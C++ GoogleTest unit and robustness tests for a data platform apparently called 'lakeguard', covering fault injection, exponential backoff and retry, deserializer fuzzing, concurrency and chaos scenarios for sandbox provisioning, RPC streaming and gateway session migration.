TEST_F(FaultInjectorTest, ScopedGuardDisarmsOnDestruction) {
  {
    ScopedFault guard("p.scoped", FaultPolicy::FailTimes(100));
    EXPECT_TRUE(FaultInjector::Instance().AnyArmed());
    EXPECT_FALSE(fault::Inject("p.scoped").ok());
  }
  EXPECT_FALSE(FaultInjector::Instance().AnyArmed());
  EXPECT_TRUE(fault::Inject("p.scoped").ok());
  // Counters survive disarming for post-mortem assertions.
  EXPECT_EQ(FaultInjector::Instance().StatsFor("p.scoped").faults_injected,
            1u);
}

TEST_F(FaultInjectorTest, LatencyIsChargedToCallSiteClock) {
  SimulatedClock clock(0);
  ScopedFault guard("p.slow", FaultPolicy::AddLatencyMicros(1500));
  EXPECT_TRUE(fault::Inject("p.slow", &clock).ok());  // latency, no failure
  EXPECT_TRUE(fault::Inject("p.slow", &clock).ok());
  EXPECT_EQ(clock.NowMicros(), 3000);
  EXPECT_EQ(FaultInjector::Instance().StatsFor("p.slow").latency_micros,
            3000u);
}

TEST_F(FaultInjectorTest, LatencyFallsBackToDefaultClock) {
  SimulatedClock clock(0);
  FaultInjector::Instance().SetDefaultClock(&clock);
  ScopedFault guard("p.slow2", FaultPolicy::AddLatencyMicros(700));
  EXPECT_TRUE(fault::Inject("p.slow2").ok());
  EXPECT_EQ(clock.NowMicros(), 700);
  FaultInjector::Instance().SetDefaultClock(nullptr);
}

TEST_F(FaultInjectorTest, TotalInjectedAggregatesAcrossPoints) {
  ScopedFault a("p.x", FaultPolicy::FailTimes(2));
  ScopedFault b("p.y", FaultPolicy::FailTimes(1));
  for (int i = 0; i < 5; ++i) {
    (void)fault::Inject("p.x");
    (void)fault::Inject("p.y");
  }
  EXPECT_EQ(FaultInjector::Instance().TotalInjected(), 3u);
}

// ---- Backoff schedule math --------------------------------------------------------

TEST(BackoffTest, ExponentialScheduleWithoutJitter) {
  Backoff::Options options;
  options.initial_micros = 100;
  options.multiplier = 2.0;
  options.max_micros = 450;
  Backoff backoff(options);
  EXPECT_EQ(backoff.NextDelayMicros(), 100);
  EXPECT_EQ(backoff.NextDelayMicros(), 200);
  EXPECT_EQ(backoff.NextDelayMicros(), 400);
  EXPECT_EQ(backoff.NextDelayMicros(), 450);  // capped
  EXPECT_EQ(backoff.NextDelayMicros(), 450);
  EXPECT_EQ(backoff.attempts(), 5);
  backoff.Reset();
  EXPECT_EQ(backoff.NextDelayMicros(), 100);
}

TEST(BackoffTest, JitterIsDeterministicBoundedAndSeedDependent) {
  Backoff::Options options;
  options.initial_micros = 1000;
  options.multiplier = 1.0;
  options.jitter = 0.5;
  options.seed = 123;
  Backoff a(options);
  Backoff b(options);
  options.seed = 321;
  Backoff c(options);
  bool saw_difference = false;
  for (int i = 0; i < 16; ++i) {
    int64_t da = a.NextDelayMicros();
    EXPECT_EQ(da, b.NextDelayMicros());  // same seed -> same schedule
    if (da != c.NextDelayMicros()) saw_difference = true;
    EXPECT_GT(da, 500 - 1);    // at most jitter*delay removed
    EXPECT_LE(da, 1000);
  }
  EXPECT_TRUE(saw_difference);
}

// ---- Retry loop under SimulatedClock ----------------------------------------------

TEST(RetryTest, TransientClassification) {
  EXPECT_TRUE(IsTransientError(Status::Aborted("x")));
  EXPECT_TRUE(IsTransientError(Status::ResourceExhausted("x")));
  EXPECT_TRUE(IsTransientError(Status::DataLoss("x")));
  EXPECT_FALSE(IsTransientError(Status::PermissionDenied("x")));
  EXPECT_FALSE(IsTransientError(Status::NotFound("x")));
  EXPECT_FALSE(IsTransientError(Status::InvalidArgument("x")));
  EXPECT_FALSE(IsTransientError(Status::DeadlineExceeded("x")));
  EXPECT_FALSE(IsTransientError(Status::Internal("x")));
  EXPECT_FALSE(IsTransientError(Status::OK()));
}

TEST(RetryTest, SucceedsAfterTransientFailuresAndChargesClock) {
  SimulatedClock clock(0);
  RetryPolicy policy;
  policy.max_attempts = 5;
  policy.backoff.initial_micros = 100;
  policy.backoff.multiplier = 2.0;
  int calls = 0;
  RetryStats stats;
  Result<int> result = RetryCall<int>(
      policy, &clock,
      [&]() -> Result<int> {
        if (++calls < 3) return Status::Aborted("flaky");
        return 7;
      },
      &stats);
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(*result, 7);
  EXPECT_EQ(stats.attempts, 3u);
  EXPECT_EQ(stats.retries, 2u);
  EXPECT_EQ(clock.NowMicros(), 100 + 200);  // two backoffs charged
}

TEST(RetryTest, PermanentErrorIsNotRetried) {
  SimulatedClock clock(0);
  RetryPolicy policy;
  policy.max_attempts = 5;
  int calls = 0;
  RetryStats stats;
  Result<int> result = RetryCall<int>(
      policy, &clock,
      [&]() -> Result<int> {
        ++calls;
        return Status::PermissionDenied("no");
      },
      &stats);
  EXPECT_FALSE(result.ok());
  EXPECT_TRUE(result.status().IsPermissionDenied());
  EXPECT_EQ(calls, 1);
  EXPECT_EQ(clock.NowMicros(), 0);
}

TEST(RetryTest, ExhaustionAnnotatesRetryCount) {
  SimulatedClock clock(0);
  RetryPolicy policy;
  policy.max_attempts = 3;
  policy.backoff.initial_micros = 10;
  Result<int> result = RetryCall<int>(
      policy, &clock, []() -> Result<int> { return Status::Aborted("down"); });
  EXPECT_FALSE(result.ok());
  EXPECT_EQ(result.status().code(), StatusCode::kAborted);
  EXPECT_NE(result.status().message().find("after 2 retries"),
            std::string::npos)
      << result.status();
}

TEST(RetryTest, DeadlineCutsRetryLoopWithTypedError) {
  SimulatedClock clock(0);
  RetryPolicy policy;
  policy.max_attempts = 100;
  policy.backoff.initial_micros = 1000;
  policy.backoff.multiplier = 2.0;
  policy.backoff.max_micros = 1'000'000;
  policy.deadline_micros = 10'000;
  RetryStats stats;
  Result<int> result = RetryCall<int>(
      policy, &clock, []() -> Result<int> { return Status::Aborted("down"); },
      &stats);
  EXPECT_FALSE(result.ok());
  EXPECT_EQ(result.status().code(), StatusCode::kDeadlineExceeded);
  EXPECT_EQ(stats.deadline_hits, 1u);
  // The loop never charges a delay that would overrun the deadline.
  EXPECT_LE(clock.NowMicros(), 10'000);
  EXPECT_LT(stats.attempts, 100u);  // no hang, no attempt storm
}

TEST(RetryTest, StatusVariantMirrorsResultVariant) {
  SimulatedClock clock(0);
  RetryPolicy policy;
  policy.max_attempts = 4;
  policy.backoff.initial_micros = 5;
  int calls = 0;
  RetryStats stats;
  Status s = RetryStatusCall(
      policy, &clock,
      [&] {
        return ++calls < 4 ? Status::ResourceExhausted("busy") : Status::OK();
      },
      &stats);
  EXPECT_TRUE(s.ok());
  EXPECT_EQ(stats.retries, 3u);
}

TEST(RetryTest, FaultPointDrivesRetryLoopDeterministically) {
  FaultInjector::Instance().Reset();
  FaultInjector::Instance().Reseed(1234);
  SimulatedClock clock(0);
  RetryPolicy policy;
  policy.max_attempts = 4;
  policy.backoff.initial_micros = 10;
  auto run = [&] {
    FaultInjector::Instance().Reseed(1234);
    ScopedFault guard("retry.seam", FaultPolicy::FailWithProbability(0.7));
    std::vector<uint64_t> attempts_per_call;
    for (int i = 0; i < 10; ++i) {
      RetryStats stats;
      (void)RetryStatusCall(
          policy, &clock, [] { return fault::Inject("retry.seam"); }, &stats);
      attempts_per_call.push_back(stats.attempts);
    }
    return attempts_per_call;
  };
  EXPECT_EQ(run(), run());
  FaultInjector::Instance().Reset();
}

}  // namespace
}  // namespace lakeguard
