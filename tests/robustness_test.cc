// Robustness tests: deterministic fuzzing of every deserializer (garbage
// and mutated-valid inputs must error gracefully, never crash or hang) and
// concurrency tests over the shared components (dispatcher, Connect
// service, object store).

#include <gtest/gtest.h>

#include <unistd.h>

#include <atomic>
#include <filesystem>
#include <thread>
#include <tuple>

#include "columnar/ipc.h"
#include "common/fault.h"
#include "common/memory_budget.h"
#include "common/retry.h"
#include "connect/protocol.h"
#include "core/platform.h"
#include "expr/expr_serde.h"
#include "plan/plan_serde.h"
#include "udf/builder.h"

namespace lakeguard {
namespace {

/// Small deterministic PRNG (xorshift64) — no <random> state to drag around.
class Rng {
 public:
  explicit Rng(uint64_t seed) : state_(seed ? seed : 0x9e3779b9) {}
  uint64_t Next() {
    state_ ^= state_ << 13;
    state_ ^= state_ >> 7;
    state_ ^= state_ << 17;
    return state_;
  }
  uint8_t NextByte() { return static_cast<uint8_t>(Next()); }
  size_t Below(size_t n) { return n == 0 ? 0 : Next() % n; }

 private:
  uint64_t state_;
};

std::vector<uint8_t> RandomBytes(Rng* rng, size_t max_len) {
  std::vector<uint8_t> out(rng->Below(max_len));
  for (uint8_t& b : out) b = rng->NextByte();
  return out;
}

/// Flips, inserts or truncates a few spots in a valid buffer.
std::vector<uint8_t> Mutate(std::vector<uint8_t> bytes, Rng* rng) {
  if (bytes.empty()) return bytes;
  switch (rng->Below(3)) {
    case 0:  // flip bytes
      for (int i = 0; i < 3; ++i) {
        bytes[rng->Below(bytes.size())] ^= rng->NextByte() | 1;
      }
      break;
    case 1:  // truncate
      bytes.resize(rng->Below(bytes.size()));
      break;
    case 2:  // insert garbage
      bytes.insert(bytes.begin() + static_cast<long>(rng->Below(bytes.size())),
                   rng->NextByte());
      break;
  }
  return bytes;
}

RecordBatch SampleBatch() {
  TableBuilder builder(Schema({{"a", TypeKind::kInt64, true},
                               {"s", TypeKind::kString, true},
                               {"d", TypeKind::kFloat64, true}}));
  for (int i = 0; i < 20; ++i) {
    EXPECT_TRUE(builder
                    .AppendRow({Value::Int(i), Value::String("s" + std::to_string(i)),
                                i % 3 == 0 ? Value::Null() : Value::Double(i * 0.5)})
                    .ok());
  }
  return *builder.Build().Combine();
}

// ---- Fuzz sweeps ------------------------------------------------------------------

class FuzzTest : public ::testing::TestWithParam<int> {};

TEST_P(FuzzTest, IpcDeserializerNeverCrashes) {
  Rng rng(1000 + GetParam());
  auto valid = ipc::SerializeBatch(SampleBatch());
  for (int i = 0; i < 200; ++i) {
    auto garbage = RandomBytes(&rng, 300);
    (void)ipc::DeserializeBatch(garbage);  // must return, not crash
    auto mutated = Mutate(valid, &rng);
    auto result = ipc::DeserializeBatch(mutated);
    if (result.ok()) {
      // A surviving mutation must still satisfy batch invariants.
      EXPECT_EQ(result->num_columns(), result->schema().num_fields());
    }
  }
}

TEST_P(FuzzTest, PlanDeserializerNeverCrashes) {
  Rng rng(2000 + GetParam());
  auto valid = PlanToBytes(MakeLimit(
      MakeFilter(MakeTableRef("cat.s.t"), Eq(Col("a"), LitInt(1))), 10));
  for (int i = 0; i < 200; ++i) {
    (void)PlanFromBytes(RandomBytes(&rng, 200));
    (void)PlanFromBytes(Mutate(valid, &rng));
  }
}

TEST_P(FuzzTest, ExprDeserializerNeverCrashes) {
  Rng rng(3000 + GetParam());
  ByteWriter w;
  SerializeExpr(And(Eq(Col("x"), LitInt(5)),
                    Func("UPPER", {Col("s")})),
                &w);
  std::vector<uint8_t> valid = w.data();
  for (int i = 0; i < 200; ++i) {
    auto garbage = RandomBytes(&rng, 100);
    ByteReader r1(garbage);
    (void)DeserializeExpr(&r1);
    auto mutated = Mutate(valid, &rng);
    ByteReader r2(mutated);
    (void)DeserializeExpr(&r2);
  }
}

TEST_P(FuzzTest, BytecodeDeserializerNeverCrashesAndStaysValid) {
  Rng rng(4000 + GetParam());
  ByteWriter w;
  SerializeBytecode(canned::HashUdf(3), &w);
  std::vector<uint8_t> valid = w.data();
  for (int i = 0; i < 200; ++i) {
    auto garbage = RandomBytes(&rng, 150);
    ByteReader r1(garbage);
    (void)DeserializeBytecode(&r1);
    auto mutated = Mutate(valid, &rng);
    ByteReader r2(mutated);
    auto bc = DeserializeBytecode(&r2);
    if (bc.ok()) {
      // Whatever survives decode also passed validation — and running it
      // must terminate (fuel) and never touch the host (deny-all default).
      VmLimits limits;
      limits.fuel = 100'000;
      std::vector<Value> args(bc->num_args, Value::Int(1));
      (void)ExecuteUdf(*bc, args, nullptr, limits);
    }
  }
}

TEST_P(FuzzTest, ConnectDecodersNeverCrash) {
  Rng rng(5000 + GetParam());
  ConnectRequest request;
  request.session_id = "s";
  request.sql = "SELECT 1";
  auto valid = EncodeRequest(request);
  for (int i = 0; i < 200; ++i) {
    (void)DecodeRequest(RandomBytes(&rng, 120));
    (void)DecodeRequest(Mutate(valid, &rng));
    (void)DecodeResponse(RandomBytes(&rng, 120));
  }
}

TEST_P(FuzzTest, ServerSurvivesGarbageRpc) {
  static LakeguardPlatform* platform = [] {
    auto* p = new LakeguardPlatform();
    (void)p->AddUser("admin");
    p->AddMetastoreAdmin("admin");
    p->RegisterToken("tok", "admin");
    return p;
  }();
  static ClusterHandle* cluster = platform->CreateStandardCluster();
  Rng rng(6000 + GetParam());
  for (int i = 0; i < 100; ++i) {
    auto response = cluster->service->HandleRpc(RandomBytes(&rng, 150));
    auto decoded = DecodeResponse(response);
    ASSERT_TRUE(decoded.ok());  // server always answers well-formed bytes
    EXPECT_FALSE(decoded->ok);  // ... reporting an error
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, FuzzTest, ::testing::Range(0, 4));

// ---- Concurrency ---------------------------------------------------------------------

TEST(ConcurrencyTest, DispatcherParallelAcquire) {
  SimulatedClock clock(0);
  SimulatedHostEnvironment env(&clock);
  LocalSandboxProvisioner provisioner(&env, &clock, /*cold_start=*/0);
  Dispatcher dispatcher(&provisioner, &clock);
  std::atomic<int> failures{0};
  std::vector<std::thread> threads;
  for (int t = 0; t < 8; ++t) {
    threads.emplace_back([&dispatcher, &failures, t] {
      for (int i = 0; i < 200; ++i) {
        std::string session = "sess-" + std::to_string(t % 4);
        std::string owner = "owner-" + std::to_string(i % 3);
        auto sandbox =
            dispatcher.Acquire(session, owner, SandboxPolicy::LockedDown());
        if (!sandbox.ok()) ++failures;
      }
    });
  }
  for (auto& t : threads) t.join();
  EXPECT_EQ(failures.load(), 0);
  // 4 sessions x 3 owners = 12 distinct sandboxes.
  EXPECT_EQ(dispatcher.ActiveSandboxCount(), 12u);
}

TEST(ConcurrencyTest, ConcurrentSessionsOnOneService) {
  LakeguardPlatform platform;
  ASSERT_TRUE(platform.AddUser("admin").ok());
  ASSERT_TRUE(platform.AddUser("u1").ok());
  ASSERT_TRUE(platform.AddUser("u2").ok());
  platform.AddMetastoreAdmin("admin");
  platform.RegisterToken("tok-admin", "admin");
  platform.RegisterToken("tok-u1", "u1");
  platform.RegisterToken("tok-u2", "u2");
  ASSERT_TRUE(platform.catalog().CreateCatalog("admin", "main").ok());
  ASSERT_TRUE(platform.catalog().CreateSchema("admin", "main.s").ok());
  ClusterHandle* cluster = platform.CreateStandardCluster();
  auto admin = *platform.Connect(cluster, "tok-admin");
  ASSERT_TRUE(
      admin.Sql("CREATE TABLE main.s.t (owner STRING, x BIGINT)").ok());
  ASSERT_TRUE(admin.Sql("INSERT INTO main.s.t VALUES "
                        "('u1', 1), ('u1', 2), ('u2', 3)")
                  .ok());
  ASSERT_TRUE(admin.Sql("ALTER TABLE main.s.t SET ROW FILTER "
                        "(owner = CURRENT_USER())")
                  .ok());
  for (const char* u : {"u1", "u2"}) {
    ASSERT_TRUE(
        platform.catalog().Grant("admin", "main", Privilege::kUseCatalog, u).ok());
    ASSERT_TRUE(
        platform.catalog().Grant("admin", "main.s", Privilege::kUseSchema, u).ok());
    ASSERT_TRUE(platform.catalog()
                    .Grant("admin", "main.s.t", Privilege::kSelect, u)
                    .ok());
  }

  std::atomic<int> wrong{0};
  auto worker = [&](const std::string& token, int64_t expected) {
    auto client = platform.Connect(cluster, token);
    if (!client.ok()) {
      ++wrong;
      return;
    }
    for (int i = 0; i < 30; ++i) {
      auto rows = client->Sql("SELECT COUNT(*) AS n FROM main.s.t");
      if (!rows.ok() ||
          rows->Combine()->CellAt(0, 0).int_value() != expected) {
        ++wrong;
      }
    }
  };
  std::thread t1(worker, "tok-u1", 2);
  std::thread t2(worker, "tok-u2", 1);
  std::thread t3(worker, "tok-u1", 2);
  t1.join();
  t2.join();
  t3.join();
  EXPECT_EQ(wrong.load(), 0);
}

TEST(ConcurrencyTest, ObjectStoreParallelReadersAndWriters) {
  SimulatedClock clock(0);
  CredentialAuthority authority(&clock);
  ObjectStore store(&authority);
  auto cred = authority.Issue("w", "c", {"mem://x/*"}, true, 1LL << 40);
  std::atomic<int> errors{0};
  std::vector<std::thread> threads;
  for (int t = 0; t < 6; ++t) {
    threads.emplace_back([&, t] {
      for (int i = 0; i < 200; ++i) {
        std::string path = "mem://x/obj-" + std::to_string((t * 200 + i) % 50);
        if (t % 2 == 0) {
          if (!store.Put(cred.token_id, path, {1, 2, 3}).ok()) ++errors;
        } else {
          auto got = store.Get(cred.token_id, path);
          if (!got.ok() && !got.status().IsNotFound()) ++errors;
        }
      }
    });
  }
  for (auto& t : threads) t.join();
  EXPECT_EQ(errors.load(), 0);
}

// ---- Chaos: fault-injected failure scenarios --------------------------------------
//
// Every scenario arms named fault points (src/common/fault.h) and asserts
// the retry/backoff machinery masks transient failures without bending
// correctness: row-exact results, typed terminal errors, no hangs.

class ChaosTest : public ::testing::Test {
 protected:
  void SetUp() override {
    FaultInjector::Instance().Reset();
    FaultInjector::Instance().Reseed(7);
  }
  void TearDown() override { FaultInjector::Instance().Reset(); }

  /// A batch big enough to force server-side chunk buffering (> 4 chunks of
  /// 1024 rows) so the client exercises the FetchChunk stream.
  static RecordBatch BigBatch(int64_t rows) {
    TableBuilder builder(Schema({{"i", TypeKind::kInt64, false},
                                 {"tag", TypeKind::kString, false}}));
    for (int64_t i = 0; i < rows; ++i) {
      EXPECT_TRUE(builder
                      .AppendRow({Value::Int(i),
                                  Value::String("r" + std::to_string(i))})
                      .ok());
    }
    return *builder.Build().Combine();
  }

  static void VerifyBigBatchRows(const Table& table, int64_t rows) {
    auto combined = table.Combine();
    ASSERT_TRUE(combined.ok());
    ASSERT_EQ(combined->num_rows(), static_cast<size_t>(rows));
    for (int64_t i = 0; i < rows; i += 617) {  // sampled row-exactness check
      EXPECT_EQ(combined->CellAt(static_cast<size_t>(i), 0).int_value(), i);
      EXPECT_EQ(combined->CellAt(static_cast<size_t>(i), 1).string_value(),
                "r" + std::to_string(i));
    }
    EXPECT_EQ(combined->CellAt(static_cast<size_t>(rows - 1), 0).int_value(),
              rows - 1);
  }
};

TEST_F(ChaosTest, ProvisionFailsTwiceThenSucceeds) {
  SimulatedClock clock(0);
  SimulatedHostEnvironment env(&clock);
  LocalSandboxProvisioner provisioner(&env, &clock, 2'000'000);
  Dispatcher dispatcher(&provisioner, &clock);
  ScopedFault fault("dispatcher.provision", FaultPolicy::FailTimes(2));
  auto sandbox = dispatcher.Acquire("s", "owner", SandboxPolicy::LockedDown());
  ASSERT_TRUE(sandbox.ok()) << sandbox.status();
  DispatcherStats stats = dispatcher.stats();
  EXPECT_EQ(stats.provision_retries, 2u);
  EXPECT_EQ(stats.provision_failures, 0u);
  EXPECT_EQ(stats.cold_starts, 1u);
  EXPECT_EQ(dispatcher.ActiveSandboxCount(), 1u);
  // Two backoffs (100ms, 200ms) plus exactly one cold start: the failed
  // attempts never charge provisioning time.
  EXPECT_EQ(clock.NowMicros(), 100'000 + 200'000 + 2'000'000);
}

TEST_F(ChaosTest, ProvisionExhaustionIsTypedAndLeavesNoSandbox) {
  SimulatedClock clock(0);
  SimulatedHostEnvironment env(&clock);
  LocalSandboxProvisioner provisioner(&env, &clock, 2'000'000);
  Dispatcher dispatcher(&provisioner, &clock);
  ScopedFault fault("dispatcher.provision", FaultPolicy::FailTimes(100));
  auto sandbox = dispatcher.Acquire("s", "owner", SandboxPolicy::LockedDown());
  ASSERT_FALSE(sandbox.ok());
  EXPECT_EQ(sandbox.status().code(), StatusCode::kAborted);
  EXPECT_NE(sandbox.status().message().find("after 2 retries"),
            std::string::npos)
      << sandbox.status();
  DispatcherStats stats = dispatcher.stats();
  EXPECT_EQ(stats.provision_failures, 1u);
  EXPECT_EQ(stats.cold_starts, 0u);
  EXPECT_EQ(dispatcher.ActiveSandboxCount(), 0u);
}

TEST_F(ChaosTest, ProvisionDeadlineCutsRetryStorm) {
  SimulatedClock clock(0);
  SimulatedHostEnvironment env(&clock);
  LocalSandboxProvisioner provisioner(&env, &clock, 2'000'000);
  Dispatcher dispatcher(&provisioner, &clock);
  RetryPolicy policy;
  policy.max_attempts = 100;
  policy.backoff.initial_micros = 100'000;
  policy.deadline_micros = 250'000;
  dispatcher.set_provision_retry_policy(policy);
  ScopedFault fault("dispatcher.provision", FaultPolicy::FailTimes(1000));
  auto sandbox = dispatcher.Acquire("s", "owner", SandboxPolicy::LockedDown());
  ASSERT_FALSE(sandbox.ok());
  EXPECT_EQ(sandbox.status().code(), StatusCode::kDeadlineExceeded);
  EXPECT_EQ(dispatcher.stats().provision_deadline_hits, 1u);
  EXPECT_LE(clock.NowMicros(), 250'000);
}

TEST_F(ChaosTest, RpcFaultIsRetriedTransparently) {
  LakeguardPlatform platform;
  ASSERT_TRUE(platform.AddUser("admin").ok());
  platform.AddMetastoreAdmin("admin");
  platform.RegisterToken("tok", "admin");
  ClusterHandle* cluster = platform.CreateStandardCluster();
  auto client = platform.Connect(cluster, "tok");
  ASSERT_TRUE(client.ok());
  ScopedFault fault("connect.rpc", FaultPolicy::FailTimes(1));
  auto table = client->FromBatch(BigBatch(10)).Collect();
  ASSERT_TRUE(table.ok()) << table.status();
  EXPECT_EQ(table->Combine()->num_rows(), 10u);
  EXPECT_GE(client->stats().rpc_retries, 1u);
  EXPECT_EQ(cluster->service->service_stats().rpc_faults, 1u);
}

TEST_F(ChaosTest, StreamDropMidFetchResumesAtExactChunk) {
  LakeguardPlatform platform;
  ASSERT_TRUE(platform.AddUser("admin").ok());
  platform.AddMetastoreAdmin("admin");
  platform.RegisterToken("tok", "admin");
  ClusterHandle* cluster = platform.CreateStandardCluster();
  auto client = platform.Connect(cluster, "tok");
  ASSERT_TRUE(client.ok());
  const int64_t kRows = 6000;  // 6 chunks > inline limit -> buffered fetch
  DataFrame df = client->FromBatch(BigBatch(kRows));
  ScopedFault fault("connect.stream", FaultPolicy::FailTimes(2));
  auto table = df.Collect();
  ASSERT_TRUE(table.ok()) << table.status();
  VerifyBigBatchRows(*table, kRows);  // no duplicated or skipped rows
  EXPECT_GE(client->stats().chunk_retries, 2u);
  ConnectServiceStats stats = cluster->service->service_stats();
  EXPECT_EQ(stats.stream_faults, 2u);
  // Every chunk was eventually served exactly once, plus the two re-fetches.
  EXPECT_EQ(stats.fetches, static_cast<uint64_t>(kRows / 1024 + 1) + 2);
}

TEST_F(ChaosTest, RetriedExecuteReattachesToBufferedResult) {
  LakeguardPlatform platform;
  ASSERT_TRUE(platform.AddUser("admin").ok());
  platform.AddMetastoreAdmin("admin");
  platform.RegisterToken("tok", "admin");
  ClusterHandle* cluster = platform.CreateStandardCluster();
  auto client = platform.Connect(cluster, "tok");
  ASSERT_TRUE(client.ok());
  DataFrame df = client->FromBatch(BigBatch(6000));
  ConnectRequest request;
  request.session_id = client->session_id();
  request.auth_token = "tok";
  request.operation_id = "op-reattach";
  request.plan_bytes = PlanToBytes(df.plan());
  ConnectResponse first = cluster->service->Execute(request);
  ASSERT_TRUE(first.ok) << first.error_message;
  ASSERT_GT(first.total_chunks, 0u);
  // The "response was lost" retry: same operation id answers from the
  // buffer — the plan is not executed a second time.
  ConnectResponse second = cluster->service->Execute(request);
  ASSERT_TRUE(second.ok) << second.error_message;
  EXPECT_EQ(second.total_chunks, first.total_chunks);
  EXPECT_EQ(second.operation_id, first.operation_id);
  EXPECT_EQ(cluster->service->service_stats().reattaches, 1u);
}

TEST_F(ChaosTest, AttachFaultDoesNotBounceAuthenticatedUser) {
  LakeguardPlatform platform;
  ASSERT_TRUE(platform.AddUser("admin").ok());
  platform.AddMetastoreAdmin("admin");
  platform.RegisterToken("tok", "admin");
  ClusterHandle* cluster = platform.CreateStandardCluster();
  ScopedFault fault("cluster.attach", FaultPolicy::FailTimes(1));
  auto client = platform.Connect(cluster, "tok");
  ASSERT_TRUE(client.ok()) << client.status();  // admission retry absorbed it
}

TEST_F(ChaosTest, ServerlessDeadlineExceededIsTypedNotAHang) {
  LakeguardPlatform platform;
  ServerlessBackend& backend = platform.serverless_backend();
  RetryPolicy policy;
  policy.max_attempts = 1000;  // deadline, not attempts, must end the loop
  policy.backoff.initial_micros = 500'000;
  policy.backoff.multiplier = 2.0;
  policy.backoff.max_micros = 4'000'000;
  policy.deadline_micros = 5'000'000;
  backend.set_retry_policy(policy);
  ScopedFault fault("efgac.execute", FaultPolicy::FailWithProbability(1.0));
  auto result = backend.ExecuteRemote(MakeTableRef("main.s.t"), "nobody");
  ASSERT_FALSE(result.ok());
  EXPECT_EQ(result.status().code(), StatusCode::kDeadlineExceeded);
  EXPECT_EQ(backend.stats().deadline_hits, 1u);
  EXPECT_EQ(backend.stats().remote_failures, 1u);
}

TEST_F(ChaosTest, ServerlessTransientFaultIsRetriedToSuccess) {
  LakeguardPlatform platform;
  ServerlessBackend& backend = platform.serverless_backend();
  ASSERT_TRUE(platform.AddUser("admin").ok());
  platform.AddMetastoreAdmin("admin");
  ASSERT_TRUE(platform.catalog().CreateCatalog("admin", "main").ok());
  ASSERT_TRUE(platform.catalog().CreateSchema("admin", "main.s").ok());
  ClusterHandle* cluster = platform.CreateStandardCluster();
  auto ctx = platform.DirectContext(cluster, "admin");
  ASSERT_TRUE(ctx.ok());
  ASSERT_TRUE(
      cluster->engine->ExecuteSql("CREATE TABLE main.s.t (x BIGINT)", *ctx)
          .ok());
  ASSERT_TRUE(
      cluster->engine->ExecuteSql("INSERT INTO main.s.t VALUES (1), (2)", *ctx)
          .ok());
  ScopedFault fault("efgac.execute", FaultPolicy::FailTimes(2));
  auto result = backend.ExecuteRemote(MakeTableRef("main.s.t"), "admin");
  ASSERT_TRUE(result.ok()) << result.status();
  EXPECT_EQ(result->Combine()->num_rows(), 2u);
  EXPECT_GE(backend.stats().remote_retries, 2u);
  EXPECT_EQ(backend.stats().remote_failures, 0u);
}

TEST_F(ChaosTest, ObjectStoreFaultsAreTransientAndRetryable) {
  SimulatedClock clock(0);
  CredentialAuthority authority(&clock);
  ObjectStore store(&authority);
  auto cred = authority.Issue("w", "c", {"mem://x/*"}, true, 1LL << 40);
  {
    ScopedFault fault("storage.put", FaultPolicy::FailTimes(1));
    Status first = store.Put(cred.token_id, "mem://x/a", {1, 2, 3});
    EXPECT_TRUE(IsTransientError(first)) << first;  // retry-classifiable
    EXPECT_TRUE(store.Put(cred.token_id, "mem://x/a", {1, 2, 3}).ok());
  }
  {
    ScopedFault fault("storage.get", FaultPolicy::FailTimes(1));
    RetryPolicy policy;
    policy.backoff.initial_micros = 1'000;
    RetryStats stats;
    auto got = RetryCall<std::vector<uint8_t>>(
        policy, &clock, [&] { return store.Get(cred.token_id, "mem://x/a"); },
        &stats);
    ASSERT_TRUE(got.ok()) << got.status();
    EXPECT_EQ(got->size(), 3u);
    EXPECT_EQ(stats.retries, 1u);
  }
}

TEST_F(ChaosTest, GatewayProvisionFaultSurfacesThenRecovers) {
  LakeguardPlatform platform;
  ASSERT_TRUE(platform.AddUser("admin").ok());
  platform.AddMetastoreAdmin("admin");
  platform.RegisterToken("tok", "admin");
  {
    ScopedFault fault("gateway.provision", FaultPolicy::FailTimes(1));
    auto session = platform.gateway().OpenSession("tok");
    ASSERT_FALSE(session.ok());
    EXPECT_TRUE(IsTransientError(session.status())) << session.status();
  }
  auto session = platform.gateway().OpenSession("tok");
  ASSERT_TRUE(session.ok()) << session.status();
}

// Shared setup for the gateway chaos scenarios below: a platform with one
// admin principal, a registered token, and a small queryable table.
struct GatewayChaosEnv {
  GatewayChaosEnv() {
    EXPECT_TRUE(platform.AddUser("admin").ok());
    platform.AddMetastoreAdmin("admin");
    platform.RegisterToken("tok", "admin");
    EXPECT_TRUE(platform.catalog().CreateCatalog("admin", "main").ok());
    EXPECT_TRUE(platform.catalog().CreateSchema("admin", "main.g").ok());
    ClusterHandle* setup = platform.CreateStandardCluster();
    auto ctx = *platform.DirectContext(setup, "admin");
    EXPECT_TRUE(
        setup->engine->ExecuteSql("CREATE TABLE main.g.t (x BIGINT)", ctx)
            .ok());
    EXPECT_TRUE(setup->engine
                    ->ExecuteSql("INSERT INTO main.g.t VALUES (1), (2), (3)",
                                 ctx)
                    .ok());
  }
  LakeguardPlatform platform;
};

TEST_F(ChaosTest, GatewayMigrateReplayFaultLeavesSessionOnSource) {
  GatewayChaosEnv env;
  auto session = env.platform.gateway().OpenSession("tok");
  ASSERT_TRUE(session.ok());
  std::string source =
      env.platform.gateway().SessionPlacement(*session)->replica_id;
  {
    // The replay step fails after the snapshot was imported on the target:
    // the gateway must compensate (close the imported copy) and leave the
    // session bound to the source — no orphan, no double execution.
    ScopedFault fault("gateway.migrate.replay", FaultPolicy::FailTimes(1));
    Status migrated = env.platform.gateway().MigrateSession(*session);
    ASSERT_FALSE(migrated.ok());
    EXPECT_TRUE(IsTransientError(migrated)) << migrated;
  }
  auto placement = env.platform.gateway().SessionPlacement(*session);
  ASSERT_TRUE(placement.ok());
  EXPECT_EQ(placement->replica_id, source);
  EXPECT_FALSE(placement->lost);
  GatewayStats stats = env.platform.gateway().stats();
  EXPECT_EQ(stats.migrations, 0u);
  EXPECT_EQ(stats.migration_failures, 1u);
  // The provisioned target carries no sessions; scale-down reclaims it,
  // proving the failed migration left nothing behind.
  EXPECT_EQ(env.platform.gateway().ScaleDown(), 1u);
  // The session still works on the source, and a later migration succeeds.
  auto rows = env.platform.gateway().ExecuteSql(
      *session, "SELECT COUNT(*) AS n FROM main.g.t");
  ASSERT_TRUE(rows.ok()) << rows.status();
  EXPECT_EQ(rows->Combine()->CellAt(0, 0).int_value(), 3);
  ASSERT_TRUE(env.platform.gateway().MigrateSession(*session).ok());
  EXPECT_NE(env.platform.gateway().SessionPlacement(*session)->replica_id,
            source);
}

